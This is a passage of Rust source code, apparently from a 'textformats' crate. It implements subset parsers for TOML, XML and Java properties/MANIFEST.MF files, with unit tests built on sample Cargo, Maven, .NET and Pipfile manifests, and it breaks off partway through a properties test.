//! A TOML subset parser sufficient for Cargo.toml, Cargo.lock,
//! pyproject.toml and Pipfile: tables, arrays of tables, dotted keys, basic
//! and literal strings, multiline basic strings, arrays, inline tables,
//! integers, floats and booleans.

use crate::value::Value;
use crate::TextError;

/// Parses a TOML document into a [`Value::Object`].
///
/// # Errors
///
/// Returns a [`TextError`] with line information on syntax errors.
pub fn parse(input: &str) -> Result<Value, TextError> {
    let mut root = Value::object();
    // Path of the table currently being filled.
    let mut current_path: Vec<String> = Vec::new();
    let mut lines = input.lines().enumerate().peekable();

    while let Some((lineno, raw_line)) = lines.next() {
        let line = strip_comment(raw_line).trim();
        if line.is_empty() {
            continue;
        }
        if let Some(header) = line.strip_prefix("[[") {
            let header = header
                .strip_suffix("]]")
                .ok_or_else(|| TextError::new(lineno + 1, "unterminated table array header"))?;
            let path = parse_key_path(header, lineno + 1)?;
            push_table_array(&mut root, &path, lineno + 1)?;
            current_path = path;
            current_path.push("\u{0}last".into()); // sentinel: fill the last array element
        } else if let Some(header) = line.strip_prefix('[') {
            let header = header
                .strip_suffix(']')
                .ok_or_else(|| TextError::new(lineno + 1, "unterminated table header"))?;
            current_path = parse_key_path(header, lineno + 1)?;
            ensure_table(&mut root, &current_path, lineno + 1)?;
        } else {
            // key = value (value may span lines for multiline strings/arrays)
            let eq = find_unquoted_eq(line)
                .ok_or_else(|| TextError::new(lineno + 1, "expected 'key = value'"))?;
            let key_part = &line[..eq];
            let mut value_part = line[eq + 1..].trim().to_string();
            // Multiline basic string
            if value_part.starts_with("\"\"\"") && !closed_multiline(&value_part) {
                for (_, next) in lines.by_ref() {
                    value_part.push('\n');
                    value_part.push_str(next);
                    if closed_multiline(&value_part) {
                        break;
                    }
                }
            }
            // Multi-line array: keep consuming until brackets balance.
            while !brackets_balanced(&value_part) {
                match lines.next() {
                    Some((_, next)) => {
                        value_part.push(' ');
                        value_part.push_str(strip_comment(next).trim());
                    }
                    None => {
                        return Err(TextError::new(lineno + 1, "unterminated array"));
                    }
                }
            }
            let keys = parse_key_path(key_part, lineno + 1)?;
            let value = parse_value(value_part.trim(), lineno + 1)?;
            let mut full_path = current_path.clone();
            full_path.extend(keys);
            set_path(&mut root, &full_path, value, lineno + 1)?;
        }
    }
    Ok(root)
}

fn strip_comment(line: &str) -> &str {
    let mut in_basic = false;
    let mut in_literal = false;
    let mut escape = false;
    for (i, c) in line.char_indices() {
        if escape {
            escape = false;
            continue;
        }
        match c {
            '\\' if in_basic => escape = true,
            '"' if !in_literal => in_basic = !in_basic,
            '\'' if !in_basic => in_literal = !in_literal,
            '#' if !in_basic && !in_literal => return &line[..i],
            _ => {}
        }
    }
    line
}

fn find_unquoted_eq(line: &str) -> Option<usize> {
    let mut in_basic = false;
    let mut in_literal = false;
    for (i, c) in line.char_indices() {
        match c {
            '"' if !in_literal => in_basic = !in_basic,
            '\'' if !in_basic => in_literal = !in_literal,
            '=' if !in_basic && !in_literal => return Some(i),
            _ => {}
        }
    }
    None
}

fn closed_multiline(s: &str) -> bool {
    s.len() >= 6 && s.trim_end().ends_with("\"\"\"")
}

fn brackets_balanced(s: &str) -> bool {
    let mut depth = 0i64;
    let mut in_basic = false;
    let mut in_literal = false;
    let mut escape = false;
    for c in s.chars() {
        if escape {
            escape = false;
            continue;
        }
        match c {
            '\\' if in_basic => escape = true,
            '"' if !in_literal => in_basic = !in_basic,
            '\'' if !in_basic => in_literal = !in_literal,
            '[' | '{' if !in_basic && !in_literal => depth += 1,
            ']' | '}' if !in_basic && !in_literal => depth -= 1,
            _ => {}
        }
    }
    depth <= 0
}

/// Parses `a.b."c.d"` into path segments.
fn parse_key_path(s: &str, line: usize) -> Result<Vec<String>, TextError> {
    let mut parts = Vec::new();
    let mut cur = String::new();
    let mut chars = s.trim().chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' | '\'' => {
                let quote = c;
                for q in chars.by_ref() {
                    if q == quote {
                        break;
                    }
                    cur.push(q);
                }
            }
            '.' => {
                parts.push(std::mem::take(&mut cur).trim().to_string());
            }
            c => cur.push(c),
        }
    }
    parts.push(cur.trim().to_string());
    if parts.iter().any(|p| p.is_empty()) {
        return Err(TextError::new(line, "empty key segment"));
    }
    Ok(parts)
}

fn ensure_table<'a>(
    root: &'a mut Value,
    path: &[String],
    line: usize,
) -> Result<&'a mut Value, TextError> {
    let mut cur = root;
    for key in path {
        if key.starts_with('\u{0}') {
            // sentinel: descend into last element of array
            match cur {
                Value::Array(items) => {
                    cur = items
                        .last_mut()
                        .ok_or_else(|| TextError::new(line, "empty table array"))?;
                }
                _ => return Err(TextError::new(line, "expected table array")),
            }
            continue;
        }
        let obj = cur
            .as_object_mut()
            .ok_or_else(|| TextError::new(line, "key collides with non-table"))?;
        let idx = match obj.iter().position(|(k, _)| k == key) {
            Some(i) => i,
            None => {
                obj.push((key.clone(), Value::object()));
                obj.len() - 1
            }
        };
        cur = &mut obj[idx].1;
    }
    Ok(cur)
}

fn push_table_array(root: &mut Value, path: &[String], line: usize) -> Result<(), TextError> {
    let (last, parents) = path
        .split_last()
        .ok_or_else(|| TextError::new(line, "empty table array path"))?;
    let parent = ensure_table(root, parents, line)?;
    let obj = parent
        .as_object_mut()
        .ok_or_else(|| TextError::new(line, "table array parent is not a table"))?;
    match obj.iter_mut().find(|(k, _)| k == last) {
        Some((_, Value::Array(items))) => items.push(Value::object()),
        Some(_) => return Err(TextError::new(line, "table array collides with value")),
        None => obj.push((last.clone(), Value::Array(vec![Value::object()]))),
    }
    Ok(())
}

fn set_path(root: &mut Value, path: &[String], value: Value, line: usize) -> Result<(), TextError> {
    let (last, parents) = path
        .split_last()
        .ok_or_else(|| TextError::new(line, "empty key"))?;
    let parent = ensure_table(root, parents, line)?;
    match parent.as_object_mut() {
        Some(obj) => {
            if let Some(slot) = obj.iter_mut().find(|(k, _)| k == last) {
                slot.1 = value;
            } else {
                obj.push((last.clone(), value));
            }
            Ok(())
        }
        None => Err(TextError::new(line, "cannot assign into non-table")),
    }
}

fn parse_value(s: &str, line: usize) -> Result<Value, TextError> {
    let s = s.trim();
    if s.is_empty() {
        return Err(TextError::new(line, "missing value"));
    }
    if let Some(rest) = s.strip_prefix("\"\"\"") {
        let body = rest
            .strip_suffix("\"\"\"")
            .ok_or_else(|| TextError::new(line, "unterminated multiline string"))?;
        return Ok(Value::Str(unescape_basic(
            body.strip_prefix('\n').unwrap_or(body),
        )));
    }
    if s.starts_with('"') {
        let body = s
            .strip_prefix('"')
            .and_then(|r| r.strip_suffix('"'))
            .ok_or_else(|| TextError::new(line, "unterminated string"))?;
        return Ok(Value::Str(unescape_basic(body)));
    }
    if s.starts_with('\'') {
        let body = s
            .strip_prefix('\'')
            .and_then(|r| r.strip_suffix('\''))
            .ok_or_else(|| TextError::new(line, "unterminated literal string"))?;
        return Ok(Value::Str(body.to_string()));
    }
    if s == "true" {
        return Ok(Value::Bool(true));
    }
    if s == "false" {
        return Ok(Value::Bool(false));
    }
    if s.starts_with('[') {
        let inner = s
            .strip_prefix('[')
            .and_then(|r| r.strip_suffix(']'))
            .ok_or_else(|| TextError::new(line, "unterminated array"))?;
        let mut items = Vec::new();
        for part in split_top_level(inner) {
            let part = part.trim();
            if part.is_empty() {
                continue;
            }
            items.push(parse_value(part, line)?);
        }
        return Ok(Value::Array(items));
    }
    if s.starts_with('{') {
        let inner = s
            .strip_prefix('{')
            .and_then(|r| r.strip_suffix('}'))
            .ok_or_else(|| TextError::new(line, "unterminated inline table"))?;
        let mut table = Value::object();
        for part in split_top_level(inner) {
            let part = part.trim();
            if part.is_empty() {
                continue;
            }
            let eq = find_unquoted_eq(part)
                .ok_or_else(|| TextError::new(line, "expected 'key = value' in inline table"))?;
            let keys = parse_key_path(&part[..eq], line)?;
            let v = parse_value(part[eq + 1..].trim(), line)?;
            set_path(&mut table, &keys, v, line)?;
        }
        return Ok(table);
    }
    // Numbers (with underscores), dates fall back to strings.
    let cleaned: String = s.chars().filter(|c| *c != '_').collect();
    if let Ok(n) = cleaned.parse::<i64>() {
        return Ok(Value::Num(n as f64));
    }
    if let Ok(f) = cleaned.parse::<f64>() {
        return Ok(Value::Num(f));
    }
    // TOML dates and bare values: keep as string (tolerant).
    Ok(Value::Str(s.to_string()))
}

fn unescape_basic(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('"') => out.push('"'),
            Some('\\') => out.push('\\'),
            Some('u') => {
                let hex: String = chars.by_ref().take(4).collect();
                if let Ok(n) = u32::from_str_radix(&hex, 16) {
                    out.push(char::from_u32(n).unwrap_or('\u{FFFD}'));
                }
            }
            Some(other) => {
                out.push('\\');
                out.push(other);
            }
            None => out.push('\\'),
        }
    }
    out
}

/// Splits on commas not inside quotes/brackets.
fn split_top_level(s: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut depth = 0i64;
    let mut in_basic = false;
    let mut in_literal = false;
    let mut start = 0;
    let mut escape = false;
    for (i, c) in s.char_indices() {
        if escape {
            escape = false;
            continue;
        }
        match c {
            '\\' if in_basic => escape = true,
            '"' if !in_literal => in_basic = !in_basic,
            '\'' if !in_basic => in_literal = !in_literal,
            '[' | '{' if !in_basic && !in_literal => depth += 1,
            ']' | '}' if !in_basic && !in_literal => depth -= 1,
            ',' if depth == 0 && !in_basic && !in_literal => {
                parts.push(&s[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    parts.push(&s[start..]);
    parts
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cargo_toml_shape() {
        let doc = parse(
            r#"
[package]
name = "demo"
version = "0.1.0"
edition = "2021"

[dependencies]
serde = { version = "1.0", features = ["derive"] }
rand = "0.8"

[dependencies.tokio]
version = "1"
features = ["full"]

[dev-dependencies]
proptest = "1"
"#,
        )
        .unwrap();
        assert_eq!(
            doc.pointer("package/name").and_then(Value::as_str),
            Some("demo")
        );
        assert_eq!(
            doc.pointer("dependencies/serde/version")
                .and_then(Value::as_str),
            Some("1.0")
        );
        assert_eq!(
            doc.pointer("dependencies/rand").and_then(Value::as_str),
            Some("0.8")
        );
        assert_eq!(
            doc.pointer("dependencies/tokio/features/0")
                .and_then(Value::as_str),
            Some("full")
        );
        assert_eq!(
            doc.pointer("dev-dependencies/proptest")
                .and_then(Value::as_str),
            Some("1")
        );
    }

    #[test]
    fn cargo_lock_table_arrays() {
        let doc = parse(
            r#"
version = 3

[[package]]
name = "autocfg"
version = "1.1.0"

[[package]]
name = "bitflags"
version = "2.4.0"
dependencies = [
 "autocfg",
]
"#,
        )
        .unwrap();
        let pkgs = doc.get("package").and_then(Value::as_array).unwrap();
        assert_eq!(pkgs.len(), 2);
        assert_eq!(
            pkgs[1].get("name").and_then(Value::as_str),
            Some("bitflags")
        );
        assert_eq!(
            pkgs[1].pointer("dependencies/0").and_then(Value::as_str),
            Some("autocfg")
        );
    }

    #[test]
    fn comments_and_blank_lines() {
        let doc = parse("# header\nkey = \"v\" # trailing\n\n[t] # table\nx = 1\n").unwrap();
        assert_eq!(doc.get("key").and_then(Value::as_str), Some("v"));
        assert_eq!(doc.pointer("t/x").and_then(Value::as_i64), Some(1));
    }

    #[test]
    fn hash_inside_string_is_not_comment() {
        let doc = parse("k = \"a#b\"").unwrap();
        assert_eq!(doc.get("k").and_then(Value::as_str), Some("a#b"));
    }

    #[test]
    fn numbers_booleans_underscores() {
        let doc = parse("a = 1_000\nb = -2.5\nc = true\nd = false").unwrap();
        assert_eq!(doc.get("a").and_then(Value::as_i64), Some(1000));
        assert_eq!(doc.get("b").and_then(Value::as_f64), Some(-2.5));
        assert_eq!(doc.get("c").and_then(Value::as_bool), Some(true));
        assert_eq!(doc.get("d").and_then(Value::as_bool), Some(false));
    }

    #[test]
    fn dotted_and_quoted_keys() {
        let doc = parse("a.b = 1\n\"x.y\" = 2").unwrap();
        assert_eq!(doc.pointer("a/b").and_then(Value::as_i64), Some(1));
        assert_eq!(doc.get("x.y").and_then(Value::as_i64), Some(2));
    }

    #[test]
    fn multiline_basic_string() {
        let doc = parse("s = \"\"\"\nline1\nline2\"\"\"").unwrap();
        assert_eq!(doc.get("s").and_then(Value::as_str), Some("line1\nline2"));
    }

    #[test]
    fn multiline_array() {
        let doc = parse("deps = [\n  \"a\",\n  \"b\",\n]\n").unwrap();
        let arr = doc.get("deps").and_then(Value::as_array).unwrap();
        assert_eq!(arr.len(), 2);
    }

    #[test]
    fn literal_strings_keep_backslashes() {
        let doc = parse(r"p = 'C:\path\to'").unwrap();
        assert_eq!(doc.get("p").and_then(Value::as_str), Some(r"C:\path\to"));
    }

    #[test]
    fn errors_are_reported() {
        assert!(parse("[unterminated").is_err());
        assert!(parse("novalue =").is_err());
        assert!(parse("just a line").is_err());
    }

    #[test]
    fn pipfile_shape() {
        let doc = parse(
            "[packages]\nrequests = \"*\"\nnumpy = \">=1.20\"\n\n[dev-packages]\npytest = \"*\"\n",
        )
        .unwrap();
        assert_eq!(
            doc.pointer("packages/requests").and_then(Value::as_str),
            Some("*")
        );
        assert_eq!(
            doc.pointer("dev-packages/pytest").and_then(Value::as_str),
            Some("*")
        );
    }
}

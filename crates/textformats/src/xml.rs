//! An XML subset parser sufficient for pom.xml, *.csproj and *.vcxproj:
//! elements, attributes, text content, comments, CDATA, processing
//! instructions and the XML declaration. No DTDs, no namespaces resolution
//! (prefixes are kept as part of the name).

use std::fmt;

use crate::TextError;

/// An XML element.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Element {
    /// Tag name (namespace prefix retained).
    pub name: String,
    /// Attributes in document order.
    pub attrs: Vec<(String, String)>,
    /// Child elements in document order.
    pub children: Vec<Element>,
    /// Concatenated direct text content (entity-decoded, trimmed).
    pub text: String,
}

impl Element {
    /// Creates an empty element.
    pub fn new(name: impl Into<String>) -> Self {
        Element {
            name: name.into(),
            attrs: Vec::new(),
            children: Vec::new(),
            text: String::new(),
        }
    }

    /// First child element with the given tag name.
    pub fn child(&self, name: &str) -> Option<&Element> {
        self.children.iter().find(|c| c.name == name)
    }

    /// All child elements with the given tag name.
    pub fn children_named<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a Element> + 'a {
        self.children.iter().filter(move |c| c.name == name)
    }

    /// Text of the first child with the given name, if present and non-empty.
    pub fn child_text(&self, name: &str) -> Option<&str> {
        self.child(name)
            .map(|c| c.text.as_str())
            .filter(|t| !t.is_empty())
    }

    /// Attribute lookup.
    pub fn attr(&self, name: &str) -> Option<&str> {
        self.attrs
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    /// Depth-first search for the first descendant with the given name.
    pub fn find(&self, name: &str) -> Option<&Element> {
        for c in &self.children {
            if c.name == name {
                return Some(c);
            }
            if let Some(found) = c.find(name) {
                return Some(found);
            }
        }
        None
    }
}

impl fmt::Display for Element {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&to_string(self))
    }
}

/// Serializes an element tree (no declaration, two-space indent).
pub fn to_string(root: &Element) -> String {
    let mut out = String::new();
    write_element(root, 0, &mut out);
    out
}

fn write_element(e: &Element, level: usize, out: &mut String) {
    let pad = "  ".repeat(level);
    out.push_str(&pad);
    out.push('<');
    out.push_str(&e.name);
    for (k, v) in &e.attrs {
        out.push(' ');
        out.push_str(k);
        out.push_str("=\"");
        out.push_str(&escape(v));
        out.push('"');
    }
    if e.children.is_empty() && e.text.is_empty() {
        out.push_str("/>\n");
        return;
    }
    out.push('>');
    if e.children.is_empty() {
        out.push_str(&escape(&e.text));
        out.push_str("</");
        out.push_str(&e.name);
        out.push_str(">\n");
        return;
    }
    out.push('\n');
    if !e.text.is_empty() {
        out.push_str(&pad);
        out.push_str("  ");
        out.push_str(&escape(&e.text));
        out.push('\n');
    }
    for c in &e.children {
        write_element(c, level + 1, out);
    }
    out.push_str(&pad);
    out.push_str("</");
    out.push_str(&e.name);
    out.push_str(">\n");
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(idx) = rest.find('&') {
        out.push_str(&rest[..idx]);
        rest = &rest[idx..];
        if let Some(semi) = rest.find(';') {
            let entity = &rest[1..semi];
            let decoded = match entity {
                "amp" => Some('&'),
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                e if e.starts_with("#x") || e.starts_with("#X") => u32::from_str_radix(&e[2..], 16)
                    .ok()
                    .and_then(char::from_u32),
                e if e.starts_with('#') => e[1..].parse::<u32>().ok().and_then(char::from_u32),
                _ => None,
            };
            match decoded {
                Some(c) => {
                    out.push(c);
                    rest = &rest[semi + 1..];
                }
                None => {
                    out.push('&');
                    rest = &rest[1..];
                }
            }
        } else {
            out.push('&');
            rest = &rest[1..];
        }
    }
    out.push_str(rest);
    out
}

/// Parses an XML document, returning the root element.
///
/// # Errors
///
/// Returns a [`TextError`] on mismatched tags, unterminated constructs, or
/// missing root element.
pub fn parse(input: &str) -> Result<Element, TextError> {
    let mut p = XmlParser { s: input, pos: 0 };
    p.skip_misc()?;
    let root = p.element()?;
    p.skip_misc()?;
    if p.pos < p.s.len() {
        return Err(p.err("trailing content after root element"));
    }
    Ok(root)
}

struct XmlParser<'a> {
    s: &'a str,
    pos: usize,
}

impl<'a> XmlParser<'a> {
    fn err(&self, msg: &str) -> TextError {
        let line = self.s[..self.pos.min(self.s.len())]
            .chars()
            .filter(|&c| c == '\n')
            .count()
            + 1;
        TextError::new(line, msg)
    }

    fn rest(&self) -> &'a str {
        &self.s[self.pos..]
    }

    fn skip_ws(&mut self) {
        let trimmed = self.rest().trim_start();
        self.pos = self.s.len() - trimmed.len();
    }

    /// Skips whitespace, comments, PIs and the XML declaration.
    fn skip_misc(&mut self) -> Result<(), TextError> {
        loop {
            self.skip_ws();
            if self.rest().starts_with("<?") {
                match self.rest().find("?>") {
                    Some(i) => self.pos += i + 2,
                    None => return Err(self.err("unterminated processing instruction")),
                }
            } else if self.rest().starts_with("<!--") {
                match self.rest().find("-->") {
                    Some(i) => self.pos += i + 3,
                    None => return Err(self.err("unterminated comment")),
                }
            } else if self.rest().starts_with("<!DOCTYPE") {
                match self.rest().find('>') {
                    Some(i) => self.pos += i + 1,
                    None => return Err(self.err("unterminated doctype")),
                }
            } else {
                return Ok(());
            }
        }
    }

    fn element(&mut self) -> Result<Element, TextError> {
        if !self.rest().starts_with('<') {
            return Err(self.err("expected '<'"));
        }
        self.pos += 1;
        let name = self.name()?;
        let mut el = Element::new(name.clone());
        // Attributes
        loop {
            self.skip_ws();
            if self.rest().starts_with("/>") {
                self.pos += 2;
                return Ok(el);
            }
            if self.rest().starts_with('>') {
                self.pos += 1;
                break;
            }
            let attr_name = self.name()?;
            self.skip_ws();
            if !self.rest().starts_with('=') {
                return Err(self.err("expected '=' in attribute"));
            }
            self.pos += 1;
            self.skip_ws();
            let quote = self
                .rest()
                .chars()
                .next()
                .filter(|c| *c == '"' || *c == '\'')
                .ok_or_else(|| self.err("expected quoted attribute value"))?;
            self.pos += 1;
            let end = self
                .rest()
                .find(quote)
                .ok_or_else(|| self.err("unterminated attribute value"))?;
            let value = unescape(&self.rest()[..end]);
            self.pos += end + 1;
            el.attrs.push((attr_name, value));
        }
        // Content
        let mut text = String::new();
        loop {
            if self.pos >= self.s.len() {
                return Err(self.err("unterminated element"));
            }
            if self.rest().starts_with("</") {
                self.pos += 2;
                let close = self.name()?;
                self.skip_ws();
                if !self.rest().starts_with('>') {
                    return Err(self.err("malformed closing tag"));
                }
                self.pos += 1;
                if close != el.name {
                    return Err(self.err("mismatched closing tag"));
                }
                el.text = text.trim().to_string();
                return Ok(el);
            }
            if self.rest().starts_with("<!--") {
                match self.rest().find("-->") {
                    Some(i) => self.pos += i + 3,
                    None => return Err(self.err("unterminated comment")),
                }
                continue;
            }
            if self.rest().starts_with("<![CDATA[") {
                let after = &self.rest()[9..];
                match after.find("]]>") {
                    Some(i) => {
                        text.push_str(&after[..i]);
                        self.pos += 9 + i + 3;
                    }
                    None => return Err(self.err("unterminated CDATA")),
                }
                continue;
            }
            if self.rest().starts_with("<?") {
                match self.rest().find("?>") {
                    Some(i) => self.pos += i + 2,
                    None => return Err(self.err("unterminated processing instruction")),
                }
                continue;
            }
            if self.rest().starts_with('<') {
                el.children.push(self.element()?);
                continue;
            }
            // Text run
            let next = self.rest().find('<').unwrap_or(self.rest().len());
            text.push_str(&unescape(&self.rest()[..next]));
            self.pos += next;
        }
    }

    fn name(&mut self) -> Result<String, TextError> {
        let rest = self.rest();
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '>' | '/' | '=' | '<'))
            .unwrap_or(rest.len());
        if end == 0 {
            return Err(self.err("expected name"));
        }
        let name = rest[..end].to_string();
        self.pos += end;
        Ok(name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pom_xml_shape() {
        let root = parse(
            r#"<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <groupId>com.example</groupId>
  <artifactId>demo</artifactId>
  <dependencies>
    <dependency>
      <groupId>org.junit</groupId>
      <artifactId>junit</artifactId>
      <version>4.13.2</version>
      <scope>test</scope>
    </dependency>
  </dependencies>
</project>"#,
        )
        .unwrap();
        assert_eq!(root.name, "project");
        assert_eq!(root.child_text("groupId"), Some("com.example"));
        let dep = root.find("dependency").unwrap();
        assert_eq!(dep.child_text("artifactId"), Some("junit"));
        assert_eq!(dep.child_text("scope"), Some("test"));
    }

    #[test]
    fn attributes_and_self_closing() {
        let root = parse(
            r#"<Project Sdk="Microsoft.NET.Sdk">
  <ItemGroup>
    <PackageReference Include="Newtonsoft.Json" Version="13.0.1" />
  </ItemGroup>
</Project>"#,
        )
        .unwrap();
        let pref = root.find("PackageReference").unwrap();
        assert_eq!(pref.attr("Include"), Some("Newtonsoft.Json"));
        assert_eq!(pref.attr("Version"), Some("13.0.1"));
    }

    #[test]
    fn entities_decoded() {
        let root = parse("<a>x &amp; y &lt;z&gt; &#65; &#x42;</a>").unwrap();
        assert_eq!(root.text, "x & y <z> A B");
    }

    #[test]
    fn cdata_and_comments() {
        let root = parse("<a><!-- c --><![CDATA[<raw>&]]></a>").unwrap();
        assert_eq!(root.text, "<raw>&");
    }

    #[test]
    fn mismatched_tags_error() {
        assert!(parse("<a><b></a></b>").is_err());
        assert!(parse("<a>").is_err());
        assert!(parse("").is_err());
        assert!(parse("<a></a><b></b>").is_err());
    }

    #[test]
    fn serialization_roundtrip() {
        let mut root = Element::new("deps");
        let mut d = Element::new("dep");
        d.attrs.push(("name".into(), "a&b".into()));
        d.text = "1.0 <pre>".into();
        root.children.push(d);
        let s = to_string(&root);
        let back = parse(&s).unwrap();
        assert_eq!(back.children[0].attr("name"), Some("a&b"));
        assert_eq!(back.children[0].text, "1.0 <pre>");
    }

    #[test]
    fn doctype_skipped() {
        let root = parse("<!DOCTYPE html><a>t</a>").unwrap();
        assert_eq!(root.text, "t");
    }
}

//! Java `.properties` files and JAR `MANIFEST.MF` parsing.
//!
//! `pom.properties` (groupId/artifactId/version) uses the properties format;
//! `MANIFEST.MF` uses RFC-822-style headers with 72-byte line folding
//! (continuation lines start with a single space).

/// One malformed `\uXXXX` escape found while parsing a properties file:
/// a lone or unpaired surrogate, or a truncated/non-hex escape. The text
/// still parses — the offending escape decodes to U+FFFD — and the caller
/// can surface the issue as a classified diagnostic.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EscapeIssue {
    /// 1-based line number of the logical line the escape started on.
    pub line: usize,
    /// Human-readable description of the malformed escape.
    pub message: String,
}

/// A properties parse carrying both the pairs and any escape issues.
#[derive(Debug, Clone, Default)]
pub struct PropertiesParse {
    /// Ordered key/value pairs, escapes decoded.
    pub pairs: Vec<(String, String)>,
    /// Malformed `\uXXXX` escapes encountered (each decoded as U+FFFD).
    pub issues: Vec<EscapeIssue>,
}

/// Parses a Java properties file into ordered key/value pairs.
///
/// Supports `=` and `:` separators, `#`/`!` comments, backslash line
/// continuations and the common escapes (`\n`, `\t`, `\\`, `\uXXXX`).
/// Surrogate pairs spelled as two consecutive `\uXXXX` escapes decode to
/// the astral code point; malformed escapes decode to U+FFFD (use
/// [`parse_properties_full`] to observe them).
pub fn parse_properties(input: &str) -> Vec<(String, String)> {
    parse_properties_full(input).pairs
}

/// Like [`parse_properties`], also reporting malformed `\uXXXX` escapes.
pub fn parse_properties_full(input: &str) -> PropertiesParse {
    let mut out = PropertiesParse::default();
    let mut logical = String::new();
    let mut logical_start = 0usize;
    for (idx, raw) in input.lines().enumerate() {
        let line = raw.trim_start();
        if logical.is_empty() && (line.starts_with('#') || line.starts_with('!')) {
            continue;
        }
        if line.is_empty() && logical.is_empty() {
            continue;
        }
        if logical.is_empty() {
            logical_start = idx + 1;
        }
        // Continuation: odd number of trailing backslashes.
        let trailing = raw.chars().rev().take_while(|&c| c == '\\').count();
        if trailing % 2 == 1 {
            logical.push_str(&line[..line.len() - 1]);
            continue;
        }
        logical.push_str(line);
        if let Some((k, v)) = split_kv(&logical) {
            let key = unescape(&k, logical_start, &mut out.issues);
            let value = unescape(&v, logical_start, &mut out.issues);
            out.pairs.push((key, value));
        }
        logical.clear();
    }
    if !logical.is_empty() {
        if let Some((k, v)) = split_kv(&logical) {
            let key = unescape(&k, logical_start, &mut out.issues);
            let value = unescape(&v, logical_start, &mut out.issues);
            out.pairs.push((key, value));
        }
    }
    out
}

fn split_kv(line: &str) -> Option<(String, String)> {
    let mut escape = false;
    for (i, c) in line.char_indices() {
        if escape {
            escape = false;
            continue;
        }
        match c {
            '\\' => escape = true,
            '=' | ':' => {
                return Some((
                    line[..i].trim().to_string(),
                    line[i + 1..].trim().to_string(),
                ));
            }
            _ => {}
        }
    }
    let trimmed = line.trim();
    if trimmed.is_empty() {
        None
    } else {
        Some((trimmed.to_string(), String::new()))
    }
}

/// Reads exactly four hex digits from the iterator; `None` when the
/// escape is truncated or contains a non-hex character (the offending
/// characters are consumed either way, like `java.util.Properties`).
fn hex4(chars: &mut std::str::Chars<'_>) -> Option<u32> {
    let mut n = Some(0u32);
    for _ in 0..4 {
        let c = chars.next()?;
        n = match (n, c.to_digit(16)) {
            (Some(n), Some(d)) => Some(n * 16 + d),
            _ => None,
        };
    }
    n
}

fn unescape(s: &str, line: usize, issues: &mut Vec<EscapeIssue>) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    let mut issue = |message: String| {
        issues.push(EscapeIssue { line, message });
    };
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => out.push('\r'),
            Some('u') => {
                let Some(n) = hex4(&mut chars) else {
                    issue("malformed \\uXXXX escape (expected 4 hex digits)".to_string());
                    out.push('\u{FFFD}');
                    continue;
                };
                if (0xD800..0xDC00).contains(&n) {
                    // High surrogate: pairs with an immediately following
                    // `\uXXXX` low surrogate (the UTF-16 spelling Java's
                    // native2ascii emits for astral code points).
                    let mut probe = chars.clone();
                    if probe.next() == Some('\\') && probe.next() == Some('u') {
                        if let Some(n2) = hex4(&mut probe) {
                            if (0xDC00..0xE000).contains(&n2) {
                                chars = probe;
                                let cp = 0x10000 + ((n - 0xD800) << 10) + (n2 - 0xDC00);
                                out.push(char::from_u32(cp).unwrap_or('\u{FFFD}'));
                                continue;
                            }
                        }
                    }
                    issue(format!("lone high surrogate \\u{n:04X} in escape"));
                    out.push('\u{FFFD}');
                } else if (0xDC00..0xE000).contains(&n) {
                    issue(format!("unpaired low surrogate \\u{n:04X} in escape"));
                    out.push('\u{FFFD}');
                } else {
                    out.push(char::from_u32(n).unwrap_or('\u{FFFD}'));
                }
            }
            Some(other) => out.push(other),
            None => {}
        }
    }
    out
}

/// Parses a `MANIFEST.MF` main section into ordered header/value pairs.
///
/// Handles the manifest continuation rule: a line beginning with a single
/// space continues the previous header's value. Parsing stops at the first
/// blank line (the end of the main section — per-entry sections follow).
pub fn parse_manifest(input: &str) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for raw in input.lines() {
        if raw.trim().is_empty() {
            break;
        }
        if let Some(cont) = raw.strip_prefix(' ') {
            if let Some(last) = out.last_mut() {
                last.1.push_str(cont.trim_end());
            }
            continue;
        }
        if let Some((k, v)) = raw.split_once(':') {
            out.push((k.trim().to_string(), v.trim().to_string()));
        }
    }
    out
}

/// Convenience: first value for a key in parsed pairs. Java properties
/// keys are case-sensitive; use [`get_ignore_case`] for MANIFEST headers.
pub fn get<'a>(pairs: &'a [(String, String)], key: &str) -> Option<&'a str> {
    pairs
        .iter()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
}

/// Case-insensitive lookup (RFC-822-style MANIFEST headers).
pub fn get_ignore_case<'a>(pairs: &'a [(String, String)], key: &str) -> Option<&'a str> {
    pairs
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case(key))
        .map(|(_, v)| v.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pom_properties() {
        let pairs = parse_properties(
            "#Generated by Maven\n#Tue Jan 01 00:00:00 UTC 2024\ngroupId=org.apache.commons\nartifactId=commons-lang3\nversion=3.12.0\n",
        );
        assert_eq!(get(&pairs, "groupId"), Some("org.apache.commons"));
